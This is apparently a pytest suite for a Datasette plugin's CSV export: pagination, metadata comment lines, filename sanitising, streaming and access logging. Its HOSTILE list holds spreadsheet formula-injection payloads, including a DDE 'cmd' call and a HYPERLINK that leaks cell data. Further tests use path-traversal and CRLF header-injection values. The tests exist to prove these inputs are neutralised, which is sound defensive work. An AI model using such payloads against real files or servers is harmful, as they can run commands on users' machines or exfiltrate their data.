"""Whole lists as CSV: all their rows, what they were made from, safe in a spreadsheet, read page by page."""

import csv
import io
import json
import re
import shutil
import sqlite3
from contextlib import closing
from urllib.parse import unquote, urlencode

import pytest
import yaml

pytest.importorskip("datasette")

from test_viewer_question_forms import (
    HOME,
    QUESTIONS,
    address,
    asked_database,
    canned,
    get,
    one_closed,
    page_of,
)
from viewer_fixtures import METADATA, found_by_verification, root, serve

from sqlite_utils_personalization import __version__
from sqlite_utils_personalization.viewer.failure import Failure
from sqlite_utils_personalization.viewer.pages import csv_export
from sqlite_utils_personalization.viewer.pages.csv_export import Pages, csv_name

# What a spreadsheet would run, or a careless reader cut in two.
HOSTILE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"a")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    " =1",
    "＝1+1",
    "\u200b=1",
    "\r=1",
    'a "quoted" title',
    "two\nlines, and a comma",
    "three\r\n# rows,999\r\nlines",
    "# no remark",
    "a # in the middle",
    "# rows,1",
    " spaces ",
    "",
    "日本語の名称",
    "'=already",
)


@pytest.fixture(scope="module")
def shared(tmp_path_factory):
    return asked_database(tmp_path_factory.mktemp("exports") / "jpcite.db")


@pytest.fixture(scope="module")
def hostile(shared, tmp_path_factory):
    """The same with the titles of HOSTILE, which no guard keeps out of the file any more."""
    path = tmp_path_factory.mktemp("hostile") / "jpcite.db"
    shutil.copy(shared, path)
    with closing(sqlite3.connect(path)) as db:
        sql = "SELECT name FROM sqlite_master WHERE type = 'trigger' AND tbl_name = 'am_personalization_candidate'"
        for (name,) in db.execute(sql).fetchall():
            db.execute(f"DROP TRIGGER {name}")
        for number, title in enumerate(HOSTILE, 1):
            db.execute(
                "UPDATE am_personalization_candidate SET title = ? WHERE candidate_id = ?",
                (title, number),
            )
        db.commit()
    return path


@pytest.fixture
def small_pages(monkeypatch):
    """Every export takes several pages."""
    monkeypatch.setattr(csv_export, "_SIZE", 2)


def table(text):
    """The remarks as pairs, the names of the columns, and the rows: read by Python's csv, which knows no remarks."""
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    about = [tuple(row) for row in rows if row and row[0].startswith("# ") and len(row) == 2]
    inner = [row for row in rows if tuple(row) not in about]
    return about, inner[0] if inner else [], inner[1:]


def without_remarks(text):
    """The text as pandas and R have it that take # for a remark: from there to the end of the line, unless quoted."""
    kept, is_quoted, is_remark = [], False, False
    for sign in text:
        if is_remark and sign not in "\r\n":
            continue
        is_remark = False
        if sign == "#" and not is_quoted:
            is_remark = True
            continue
        is_quoted ^= sign == '"'
        kept.append(sign)
    rows = list(csv.reader(io.StringIO("".join(kept), newline="")))
    return [row for row in rows if row]


def as_cells(row):
    return ["" if value is None else str(value) for value in row.values()]


async def sent(datasette, url, method="GET", receive=None, on_piece=None):
    """The status, the headers and the pieces that are sent for an address, and whether the answer has an end."""
    path, _, query = url.partition("?")
    scope = {
        "type": "http",
        "http_version": "1.1",
        "method": method,
        "path": unquote(path),
        "raw_path": path.encode(),
        "query_string": query.encode(),
        "headers": [(b"host", b"localhost")],
        "scheme": "http",
        "client": ("127.0.0.1", 1),
        "server": ("localhost", 80),
        "root_path": "",
    }
    messages = []

    async def wait():
        import asyncio

        await asyncio.Event().wait()

    async def send(message):
        messages.append(message)
        if on_piece and message["type"] == "http.response.body":
            on_piece(len(messages))

    await datasette.app()(scope, receive or wait, send)
    start, *bodies = messages
    pieces = [message.get("body", b"") for message in bodies]
    is_whole = bool(bodies) and not bodies[-1].get("more_body", False)
    return start["status"], dict(start["headers"]), [piece for piece in pieces if piece], is_whole


@pytest.mark.asyncio
@pytest.mark.parametrize("name", QUESTIONS)
async def test_an_export_has_every_row_of_every_page_and_says_how_many(shared, name, small_pages):
    datasette = await serve(shared)
    every = await canned(datasette, name)
    # How a page looks has nothing to do with it.
    looks = {"size": 1} if QUESTIONS[name].next_column else {}
    response = await get(datasette, address(name, ".csv", cols="main", **looks))
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    about, columns, rows = table(response.text)
    assert "# next" not in dict(about)
    assert rows == [as_cells(row) for row in every]
    if every:
        assert columns == list(every[0])
    assert about[-1] == ("# rows", str(len(every)))
    assert response.text.endswith("\r\n")
    assert response.text.count("\n") == response.text.count("\r\n")


@pytest.mark.asyncio
async def test_the_first_lines_say_what_was_asked_of_which_file_under_which_head(shared):
    datasette = await serve(shared)
    url = address("left_out_items", ".csv", type=" ＰＲＯＧＲＡＭ", night="latest")
    about = dict(table((await get(datasette, url)).text)[0])
    with closing(sqlite3.connect(shared)) as db:
        sql = "SELECT origin, seal_id, tree_root FROM am_personalization_seal ORDER BY seal_id DESC"
        origin, size, tree_root = db.execute(sql).fetchone()
        (last,) = db.execute(
            "SELECT max(rec_id) FROM am_personalization_recommendation_log"
        ).fetchone()
    made_at = about.pop("# made at")
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", made_at)
    assert about == {
        "# page": f"{HOME}/q/left_out_items",
        "# question": "left_out_items",
        # The night that latest meant.
        "# parameter night": "2",
        "# parameter type": "program",
        "# database": "jpcite",
        "# file": "jpcite.db",
        "# head origin": origin,
        "# head size": str(size),
        "# head root": tree_root,
        "# log_end": str(last),
        "# package": __version__,
        "# rows": about["# rows"],
    }


@pytest.mark.asyncio
async def test_no_cell_is_a_formula_and_none_is_cut_in_two(hostile, small_pages):
    datasette = await serve(hostile)
    seen = set()
    for name in ("recent_recommendations", "left_out_items", "item_recommendations"):
        every = await canned(datasette, name)
        text = (await get(datasette, address(name, ".csv"))).text
        _, columns, rows = table(text)
        assert len(rows) == len(every)
        at = columns.index("title")
        for row, cells in zip(every, rows, strict=True):
            title = row["title"] or ""
            is_formula = re.match("[\\s\\x00-\\x1f\\xa0\\u200b]*[=+\\-@＝]|[\\t\\r\\n]", title)
            assert cells[at] == (f"'{title}" if is_formula else title)
            seen.add(title)
        # Whoever takes # for a remark has the same table, without what is said about it.
        assert without_remarks(text) == [columns, *rows]
    assert len(seen & set(HOSTILE)) > 10


@pytest.mark.asyncio
async def test_what_a_remark_repeats_stays_one_line_of_two_cells(shared, tmp_path):
    path = tmp_path / "jpcite.db"
    shutil.copy(shared, path)
    item_id = '=1"\n2026,# rows\u2028,9'
    with closing(sqlite3.connect(path)) as db:
        sql = "SELECT name FROM sqlite_master WHERE type = 'trigger' AND tbl_name = 'am_personalization_candidate'"
        for (name,) in db.execute(sql).fetchall():
            db.execute(f"DROP TRIGGER {name}")
        db.execute(
            "UPDATE am_personalization_candidate SET item_id = ? WHERE item_id = 'EX-104'",
            (item_id,),
        )
        db.commit()
    datasette = await serve(path)
    text = (await get(datasette, address("item_recommendations", ".csv", item_id=item_id))).text
    about, _, rows = table(text)
    assert dict(about)["# parameter item_id"] == "'=1\" 2026,# rows ,9"
    assert {row[6] for row in rows} == {f"'{item_id}"}
    assert about[-1] == ("# rows", str(len(rows)))
    assert len(without_remarks(text)) == 1 + len(rows)


@pytest.mark.asyncio
async def test_the_lines_can_be_left_out_and_a_byte_order_mark_put_in(shared):
    datasette = await serve(shared)
    plain = (await get(datasette, address("nights", ".csv", head="off"))).content
    assert b"#" not in plain
    assert plain.startswith(b"run_id,")
    marked = (await get(datasette, address("nights", ".csv", head="off", bom="on"))).content
    assert marked == b"\xef\xbb\xbf" + plain
    with_head = (await get(datasette, address("nights", ".csv", bom="on"))).content
    assert with_head.startswith(b"\xef\xbb\xbf# page,")
    for wrong in ({"bom": "yes"}, {"head": "0"}, {"nite": "1"}, {"after": "x"}):
        response = await get(datasette, address("nights", ".csv", **wrong), 400)
        assert "text/html" in response.headers["content-type"]
    # They are of the file alone.
    for suffix in ("", ".json"):
        await get(datasette, address("nights", suffix, bom="on"), 400)


@pytest.mark.asyncio
@pytest.mark.parametrize(
    ("stem", "plain"),
    [
        ("jpcite", "jpcite-nights.csv"),
        ("odd 'name' & \"more\";.x", "odd_name__more__.x-nights.csv"),
        ("補助金", "_-nights.csv"),
    ],
)
async def test_a_file_is_called_after_its_database_and_question(shared, tmp_path, stem, plain):
    path = tmp_path / f"{stem}.db"
    shutil.copy(shared, path)
    datasette = await serve(path)
    response = await get(datasette, address("nights", ".csv"))
    ascii_name, whole = re.fullmatch(
        r"attachment; filename=\"([\w.-]+)\"; filename\*=UTF-8''([\w.%~-]+)",
        response.headers["content-disposition"],
        re.ASCII,
    ).groups()
    assert ascii_name == plain
    assert unquote(whole) == f"{stem}-nights.csv".replace('"', "_")
    assert dict(table(response.text)[0])["# database"] == stem


def test_no_name_of_a_database_leads_out_of_the_folder_or_of_the_header():
    for name in ("../../etc/passwd", "a\r\nSet-Cookie: x", "a\\b", "a\x00b"):
        said = csv_name(name, "nights")
        assert not re.search(r"[\r\n\x00/\\]", said)
        assert not re.search(r"[\r\n\x00/\\]", unquote(said))


@pytest.mark.asyncio
async def test_head_is_answered_with_the_headers_and_nothing_else(shared):
    datasette = await serve(shared)
    url = address("recent_recommendations", ".csv")
    status, headers, pieces, is_whole = await sent(datasette, url, "HEAD")
    _, same, body, _ = await sent(datasette, url)
    assert (status, pieces, is_whole) == (200, [], True)
    assert headers == same
    assert body
    for wrong, status in ((f"{url}?size=x", 400), (f"{HOME}/q/nothing.csv", 404)):
        assert (await datasette.client.request("HEAD", wrong)).status_code == status
    assert (await datasette.client.post(url)).status_code == 405


@pytest.mark.asyncio
async def test_an_export_is_sent_in_pieces_between_which_others_may_write(
    shared, tmp_path, small_pages
):
    path = tmp_path / "jpcite.db"
    shutil.copy(shared, path)
    datasette = await serve(path)
    with closing(sqlite3.connect(path)) as db:
        (log_end,) = db.execute(
            "SELECT max(rec_id) FROM am_personalization_recommendation_log"
        ).fetchone()
    every = await canned(datasette, "left_out_items", night=2)

    def write(at):
        with closing(sqlite3.connect(path, timeout=0)) as db, db:
            db.execute(
                "INSERT INTO am_personalization_recommendation_log (profile_id, recommendation_type, score)"
                " VALUES (1, 'program', 5)"
            )

    _, _, pieces, is_whole = await sent(
        datasette, address("left_out_items", ".csv"), on_piece=write
    )
    about, _, rows = table(b"".join(pieces).decode())
    assert is_whole
    assert len(pieces) >= len(every) / 2 > 3
    assert max(map(len, pieces)) < 2_000
    assert rows == [as_cells(row) for row in every]
    # The file said how long the log was, and that it grew.
    about = dict(about)
    assert about["# log_end"] == str(log_end)
    assert int(about["# log_end by the end"]) > log_end
    assert about["# rows"] == str(len(every))


@pytest.mark.asyncio
async def test_what_takes_too_long_is_read_in_smaller_pages():
    asked = []

    async def read(after, size):
        asked.append((after, size))
        if size > 10:
            raise Failure(503, "It took too long", "", "")
        rows = list(range(after or 0, min(25, (after or 0) + size)))
        return {"rows": rows, "next": rows[-1] + 1 if rows[-1] < 24 else None}

    pages, found = Pages(read, "rows", None), []
    while not pages.is_last:
        found += (await pages.next())["rows"]
    assert found == list(range(25))
    assert asked == [(None, 1000), (None, 100), (None, 10), (10, 10), (20, 10)]

    async def never(after, size):
        raise Failure(503, "It took too long", "", "")

    with pytest.raises(Failure):
        await Pages(never, "rows", None).next()


@pytest.mark.asyncio
async def test_a_list_that_comes_back_to_where_it_was_ends():
    async def read(after, size):
        return {"rows": [1], "next": 5}

    pages = Pages(read, "rows", None)
    await pages.next()
    assert not pages.is_last
    await pages.next()
    assert pages.is_last


@pytest.mark.asyncio
async def test_an_export_that_breaks_off_has_no_end_and_says_so(shared, monkeypatch, small_pages):
    datasette = await serve(shared)
    whole, read = await canned(datasette, "left_out_items"), Pages.next

    async def breaks(self):
        if self.after:
            raise Failure(503, "It took too long", "jpcite.db is busy", "")
        return await read(self)

    monkeypatch.setattr(Pages, "next", breaks)
    _, _, pieces, is_whole = await sent(datasette, address("left_out_items", ".csv"))
    about, _, rows = table(b"".join(pieces).decode())
    assert not is_whole
    assert about[-1] == ("# incomplete", "jpcite.db is busy")
    assert "# rows" not in dict(about)
    assert 0 < len(rows) < len(whole)


@pytest.mark.asyncio
async def test_nothing_more_is_read_for_whom_has_left(shared, monkeypatch, small_pages):
    datasette = await serve(shared)
    reads, read = [], Pages.next

    async def counted(self):
        reads.append(self.after)
        return await read(self)

    monkeypatch.setattr(Pages, "next", counted)
    left = [{"type": "http.request"}, {"type": "http.disconnect"}]

    async def receive():
        return left.pop(0)

    _, _, _, is_whole = await sent(datasette, address("left_out_items", ".csv"), receive=receive)
    assert not is_whole
    assert len(reads) <= 2


@pytest.mark.asyncio
async def test_a_file_is_the_same_in_every_language(shared):
    datasette = await serve(shared)
    for name in ("customer_changes", "reconciled_rows", "nothing_recommended"):
        found = []
        for language in ("en", "ja"):
            headers = {"Accept-Language": language}
            text = (await get(datasette, address(name, ".csv"), headers=headers)).text
            found.append(re.sub("# made at,.*", "", text))
        assert found[0] == found[1]


@pytest.mark.asyncio
async def test_whom_the_question_is_closed_to_gets_no_file(shared):
    datasette = await serve(shared, **one_closed("customer_recommendations"))
    url = address("customer_recommendations", ".csv")
    for method in ("GET", "HEAD"):
        response = await datasette.client.request(method, url)
        assert response.status_code == 403
        assert "text/csv" not in response.headers["content-type"]
    known = await get(datasette, url, cookies=root(datasette))
    assert table(known.text)[2]


@pytest.mark.asyncio
async def test_an_export_is_noted_once_and_asks_for_a_reason(shared, tmp_path):
    metadata = yaml.safe_load(METADATA.read_text(encoding="utf-8"))
    setting = {"access_log": {"file": str(tmp_path / "access.db"), "reason": True}}
    plugins = {"sqlite-utils-personalization": setting}
    datasette = await serve(shared, metadata={**metadata, "plugins": plugins})
    url = address("customer_recommendations", ".csv")
    refused = await get(datasette, url, 400)
    assert 'name="reason"' in refused.text
    kept = {"pa_reason": "audit-2026"}
    assert table((await get(datasette, url, cookies=kept)).text)[2]
    await get(datasette, address("recent_recommendations", ".csv"), cookies=kept)
    for suffix in ("", ".json"):
        await get(datasette, address("recent_recommendations", suffix), cookies=kept)
    with closing(sqlite3.connect(tmp_path / "access.db")) as db:
        entries = db.execute("SELECT route, profile_id, reason FROM access").fetchall()
    assert entries == [
        (f"{HOME}/q/customer_recommendations.csv", 1, "audit-2026"),
        *(
            (f"{HOME}/q/recent_recommendations{suffix}", None, "audit-2026")
            for suffix in (".csv", "", ".json")
        ),
    ]


@pytest.mark.asyncio
async def test_files_of_several_databases_below_a_base_url_are_each_of_its_own(shared, tmp_path):
    other = tmp_path / "other one.db"
    shutil.copy(shared, other)
    with closing(sqlite3.connect(other)) as db, db:
        db.execute(
            "INSERT INTO am_personalization_recommendation_log (profile_id, recommendation_type, score)"
            " VALUES (1, 'program', 5)"
        )
    datasette = await serve(shared, other, settings={"base_url": "/audit/"})
    assert (
        await datasette.client.get(address("recent_recommendations", ".csv"))
    ).status_code == 400
    counts = []
    for name in ("jpcite", "other one"):
        page, text = await page_of(datasette, address("recent_recommendations", database=name))
        url = page.link("CSV, all rows", text)
        assert url == f"/audit{HOME}/q/recent_recommendations.csv?{urlencode({'database': name})}"
        about, _, rows = table((await get(datasette, url.removeprefix("/audit"))).text)
        assert dict(about)["# file"] == f"{name}.db"
        # What is below a base URL is no part of the page's name.
        assert dict(about)["# page"] == f"{HOME}/q/recent_recommendations"
        counts.append(len(rows))
    assert counts[1] == counts[0] + 1


@pytest.mark.asyncio
@pytest.mark.parametrize(
    ("path", "name"),
    [
        ("/nights?since=2026-04-03", "nights.csv?since=2026-04-03"),
        ("/night/2", "left_out_items.csv?night=2"),
        ("/night/2", "nothing_recommended.csv?night=2"),
        ("/customer/1", "customer_recommendations.csv?customer=1&night=2"),
        ("/item/program/EX-104", "item_recommendations.csv?item_id=EX-104&type=program&night=2"),
        ("/money/2026-04", "deliveries.csv?since=2026-04&until=2026-04"),
        (
            "/money/2026-04/unverifiable",
            "reconciled_rows.csv?month=2026-04&class=unverifiable",
        ),
    ],
)
async def test_the_lists_of_other_pages_lead_to_all_their_rows(shared, path, name):
    datasette = await serve(shared)
    text = (await get(datasette, f"{HOME}{path}")).text
    url = f"{HOME}/q/{name}"
    assert f'href="{url.replace("&", "&amp;")}"' in text
    about, _, rows = table((await get(datasette, url)).text)
    assert about[-1] == ("# rows", str(len(rows)))
    assert rows


@pytest.mark.asyncio
async def test_a_sample_is_a_file_with_its_seed(shared):
    datasette = await serve(shared)
    page, text = await page_of(datasette, f"{HOME}/night/1/sample?n=5&seed=a+b")
    url = page.link("CSV, all rows", text)
    data = (await get(datasette, f"{HOME}/night/1/sample.json?n=5&seed=a+b")).json()
    about, columns, rows = table((await get(datasette, url)).text)
    assert columns == list(data["recommendations"][0])
    assert rows == [as_cells(row) for row in data["recommendations"]]
    about = dict(about)
    assert (about["# seed"], about["# drawn"], about["# page"]) == (
        "a b",
        "5",
        f"{HOME}/night/1/sample",
    )
    # Without one it is the root of the seal, which the file names too.
    about = dict(table((await get(datasette, f"{HOME}/night/1/sample.csv")).text)[0])
    with closing(sqlite3.connect(shared)) as db:
        sql = "SELECT root FROM am_personalization_seal WHERE run_id = 1"
        assert about["# seed"] == db.execute(sql).fetchone()[0]


@pytest.mark.asyncio
async def test_findings_are_a_file_and_so_are_accesses_for_whom_may_see_them(shared, tmp_path):
    path = tmp_path / "jpcite.db"
    shutil.copy(shared, path)
    found_by_verification(path, {"sentence": "=1+1 is not what was sealed", "where": {"rec_id": 1}})
    metadata = yaml.safe_load(METADATA.read_text(encoding="utf-8"))
    plugins = {"sqlite-utils-personalization": {"access_log": str(tmp_path / "access.db")}}
    datasette = await serve(path, metadata={**metadata, "plugins": plugins})
    page, text = await page_of(datasette, f"{HOME}/verification")
    _, columns, rows = table((await get(datasette, page.link("CSV, all rows", text))).text)
    (row,) = (dict(zip(columns, cells, strict=True)) for cells in rows)
    assert row["sentence"] == "'=1+1 is not what was sealed"
    assert json.loads(row["where"]) == {"rec_id": 1}

    await get(datasette, f"{HOME}/customer/1")
    url = f"{HOME}/access.csv"
    assert (await datasette.client.get(url)).status_code == 403
    about, columns, rows = table((await get(datasette, url, cookies=root(datasette))).text)
    assert [cells[columns.index("profile_id")] for cells in rows] == ["1"]
    assert dict(about)["# total"] == "1"


@pytest.mark.asyncio
async def test_an_empty_list_is_a_file_too(shared):
    datasette = await serve(shared)
    url = address("rejected_preferences", ".csv")
    about, columns, rows = table((await get(datasette, url)).text)
    assert columns[0] == "run_id"
    assert (rows, about[-1]) == ([], ("# rows", "0"))


@pytest.mark.asyncio
async def test_seals_findings_and_verifications_are_lists_of_their_own(
    shared, tmp_path, small_pages
):
    path = tmp_path / "jpcite.db"
    shutil.copy(shared, path)
    found_by_verification(
        path, {"sentence": "row 1 is not what was sealed", "where": {"rec_id": 1}}
    )
    datasette = await serve(path)
    page = (await datasette.client.get(f"{HOME}/verification")).text
    data = (await datasette.client.get(f"{HOME}/verification.json")).json()
    for name in ("findings", "seals", "verifications"):
        url = f"{HOME}/verification.csv?list={name}"
        assert url in page
        about, columns, rows = table((await datasette.client.get(url)).text)
        assert columns == list(data[name][0])
        assert about[-1] == ("# rows", str(len(rows)))
        assert dict(about)["# parameter list"] == name
        assert len(rows) == len(data[name]) > 0
    with closing(sqlite3.connect(path)) as db:
        sealed = db.execute(
            "SELECT seal_id, tree_root FROM am_personalization_seal ORDER BY seal_id DESC"
        ).fetchall()
    _, columns, rows = table(
        (await datasette.client.get(f"{HOME}/verification.csv?list=seals")).text
    )
    at = columns.index("tree_root")
    assert [(int(row[0]), row[at]) for row in rows] == sealed


@pytest.mark.asyncio
@pytest.mark.parametrize("name", ["title", "left_out", "earlier"])
async def test_a_search_by_words_is_exported_whole(shared, name, small_pages):
    datasette = await serve(shared)
    for text in ("補助", "EX", "a"):
        data = await page_json(datasette, f"/search.json?{urlencode({'q': text})}")
        url = f"{HOME}/search.csv?{urlencode({'q': text, 'list': name})}"
        about, _, rows = table((await datasette.client.get(url)).text)
        assert dict(about)["# total"] == about[-1][1] == str(data["results"][name]["total"])
        # Where the second page of the export begins says nothing of the whole.
        assert "# next" not in dict(about)
        first = [as_cells(row) for row in data["results"][name]["rows"]]
        assert rows[: len(first)] == first


async def page_json(datasette, url):
    response = await datasette.client.get(f"{HOME}{url}")
    assert response.status_code == 200
    return response.json()
